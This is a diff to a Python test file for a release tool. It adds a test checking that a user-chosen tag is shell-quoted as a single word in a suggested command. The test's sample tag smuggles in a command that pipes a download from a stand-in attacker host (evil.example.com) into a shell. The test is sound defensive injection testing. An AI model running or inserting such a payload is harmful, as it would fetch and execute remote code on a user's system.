@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from datetime import UTC, datetime
 
 import pytest
@@ -121,6 +122,14 @@ def test_the_next_command_is_that_of_each_tone() -> None:
     assert notice.title == "alpha/v0.1.0 refused; alpha/v0.1.0 incomplete"
     assert notice.next == ("hatch run release run", "hatch run release plan alpha/v0.1.0")
     assert notice.story == "to s3, github, by ada, in 3 s"
+
+
+def test_a_name_that_somebody_chose_is_one_word_of_the_next_command() -> None:
+    hostile = "alpha/v1;curl${IFS}evil.example.com|sh"
+    line = told(Refused("no version")).model_copy(update={"tag": hostile})
+    (command,) = make_notice(line).next
+    assert shlex.split(command, comments=True) == ["hatch", "run", "release", "plan", hostile]
+    assert list(shlex.shlex(command, posix=True, punctuation_chars=True)) == shlex.split(command)
 
 
 def test_many_tags_are_counted() -> None:
